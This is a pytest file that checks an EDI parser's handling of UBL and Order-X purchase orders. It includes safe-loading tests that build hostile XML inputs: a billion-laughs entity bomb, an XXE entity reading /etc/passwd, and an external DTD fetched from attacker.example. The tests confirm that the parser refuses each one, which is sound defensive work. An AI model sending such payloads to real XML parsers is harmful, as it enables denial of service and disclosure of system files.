"""UBL and Order-X: safe loading (billion laughs, XXE refused with a location) and order mapping."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from app.edi.documents import DocumentFormat, ItemIdKind
from app.edi.issues import InterchangeRejected, IssueCode
from app.edi.orderx import parse_orderx
from app.edi.parse import parse_interchange
from app.edi.ubl import parse_ubl
from tests.edi.corpus import fixture

UBL_NS = (
    'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2" '
    'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" '
    'xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"'
)
UBL_LINE = (
    "<cac:OrderLine><cac:LineItem><cbc:ID>1</cbc:ID>{quantity}"
    "<cac:Item><cac:StandardItemIdentification><cbc:ID>4006381333931</cbc:ID></cac:StandardItemIdentification>"
    "</cac:Item></cac:LineItem></cac:OrderLine>"
)


def ubl(
    body: str = "<cbc:ID>PO-9</cbc:ID>",
    quantity: str = '<cbc:Quantity unitCode="C62">3</cbc:Quantity>',
    prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
) -> bytes:
    return f"{prolog}<Order {UBL_NS}>{body}{UBL_LINE.format(quantity=quantity)}</Order>".encode()


def rejection(data: bytes) -> InterchangeRejected:
    with pytest.raises(InterchangeRejected) as caught:
        parse_interchange(data)
    return caught.value


class TestSafeLoading:
    def test_billion_laughs_is_refused_at_its_doctype(self) -> None:
        entities = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
        prolog = f'<?xml version="1.0"?>\n<!DOCTYPE Order [\n<!ENTITY lol0 "lol">{entities}]>\n'
        caught = rejection(ubl(body="<cbc:ID>&lol9;</cbc:ID>", prolog=prolog))
        (issue,) = caught.issues
        assert issue.code is IssueCode.XML_FORBIDDEN
        assert issue.where.line == 2 and issue.loc.startswith("line 2 column")

    def test_external_entity_is_refused_and_never_read(self) -> None:
        prolog = '<?xml version="1.0"?>\n<!DOCTYPE Order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        caught = rejection(ubl(body="<cbc:ID>&xxe;</cbc:ID>", prolog=prolog))
        assert [i.code for i in caught.issues] == [IssueCode.XML_FORBIDDEN]
        assert "root:" not in str(caught)

    def test_external_dtd_is_refused(self) -> None:
        prolog = '<?xml version="1.0"?>\n<!DOCTYPE Order SYSTEM "http://attacker.example/x.dtd">\n'
        assert [i.code for i in rejection(ubl(prolog=prolog)).issues] == [IssueCode.XML_FORBIDDEN]

    def test_malformed_xml_is_rejected_with_line_and_column(self) -> None:
        data = ubl().replace(b"</cbc:ID>", b"</cbc:Id>", 1)
        (issue,) = rejection(data).issues
        assert issue.code is IssueCode.XML_SYNTAX
        assert issue.where.line == 2 and issue.where.column is not None

    def test_undefined_entity_is_a_syntax_error(self) -> None:
        assert [i.code for i in rejection(ubl(body="<cbc:ID>&nope;</cbc:ID>")).issues] == [
            IssueCode.XML_SYNTAX
        ]

    def test_unknown_root_is_rejected(self) -> None:
        caught = rejection(b'<?xml version="1.0"?>\n<Invoice xmlns="urn:example"/>')
        assert [i.code for i in caught.issues] == [IssueCode.UNKNOWN_DOCUMENT]
        assert caught.issues[0].where.line == 2


class TestUbl:
    def test_order_2_1(self) -> None:
        parsed = parse_ubl(fixture("ubl/order_2.1.xml"))
        assert parsed.format is DocumentFormat.UBL and parsed.envelopes == ()
        order = parsed.orders[0]
        assert (order.po_number, order.currency, order.document_date) == (
            "LQ-UBL-34",
            "EUR",
            date(2026, 11, 16),
        )
        assert order.requested_delivery_date == date(2026, 11, 23)
        assert (order.buyer_id, order.supplier_id, order.delivery_party_id) == (
            "3020000000005",
            "DIFCARNET-01",
            "3020000000012",
        )
        assert order.party("BY").address.city == "Lyon"  # type: ignore[union-attr]
        line = order.lines[0]
        assert (line.item, line.quantity, line.unit, line.unit_price, line.description) == (
            "3760123456784",
            Decimal(120),
            "C62",
            Decimal("2.50"),
            "Cahier d’écolier à grands carreaux",
        )
        assert [i.kind for i in line.identifiers] == [ItemIdKind.GTIN, ItemIdKind.SELLER]
        assert order.lines[1].unit_price == Decimal("4.5")  # 45.00 per 10
        assert (parsed.sender_id, parsed.receiver_id) == ("3020000000005", "DIFCARNET-01")

    def test_buyer_without_party_identification_uses_the_seller_assigned_account(self) -> None:
        order = parse_ubl(fixture("ubl/order_2.0_accounts.xml")).orders[0]
        buyer = order.party("BY")
        assert buyer is not None and (buyer.id, buyer.id_agency) == ("LQ00978567", "91")
        assert order.currency == "CHF"
        assert [(i.kind, i.value) for i in order.lines[0].identifiers] == [
            (ItemIdKind.SELLER, "CARN-5896"),
            (ItemIdKind.BUYER, "LQ-6578"),
        ]

    def test_missing_order_number_is_rejected_at_the_root(self) -> None:
        caught = rejection(ubl(body=""))
        assert [i.code for i in caught.issues] == [IssueCode.MISSING_VALUE]
        assert caught.issues[0].where.xpath == "/*"

    def test_unreadable_quantity_is_rejected_with_its_xpath(self) -> None:
        caught = rejection(ubl(quantity="<cbc:Quantity>three</cbc:Quantity>"))
        assert caught.issues[0].code is IssueCode.INVALID_VALUE
        assert caught.issues[0].loc == "line 2 /*/cac:OrderLine/cac:LineItem/cbc:Quantity"


class TestOrderX:
    def test_comfort_profile_with_bom_comment_and_no_declaration(self) -> None:
        parsed = parse_orderx(fixture("orderx/comfort_bom_comment.xml"))
        order = parsed.orders[0]
        assert (order.po_number, order.document_type, order.currency) == ("LQ-OX-2026-01", "220", "EUR")
        assert order.document_date == date(2026, 11, 16)
        assert order.requested_delivery_date == date(2026, 12, 1)
        assert (order.buyer_id, order.supplier_id, order.delivery_party_id) == (
            "3020000000005",
            "3010000000006",
            "3020000000012",
        )
        line = order.lines[0]
        assert (line.line_number, line.item, line.quantity, line.unit) == (
            "1",
            "3760123456784",
            Decimal(6),
            "C62",
        )
        assert [i.qualifier for i in line.identifiers] == ["0160", "SA", "IN"]
        assert parsed.test is False

    def test_basic_profile_fractional_quantity(self) -> None:
        order = parse_orderx(fixture("orderx/basic_fractional.xml")).orders[0]
        assert (order.lines[0].quantity, order.lines[0].unit) == (Decimal("4.052"), "MTK")
        assert order.buyer_id == "3020000000029"

    def test_line_without_quantity_is_rejected(self) -> None:
        data = fixture("orderx/basic_fractional.xml")
        data = data.replace(b'<ram:RequestedQuantity unitCode="C62">5</ram:RequestedQuantity>', b"", 1)
        caught = rejection(data)
        assert [i.code for i in caught.issues] == [IssueCode.INVALID_VALUE]
        assert caught.issues[0].where.xpath is not None
        assert caught.interchange is not None and len(caught.interchange.orders[0].lines) == 2
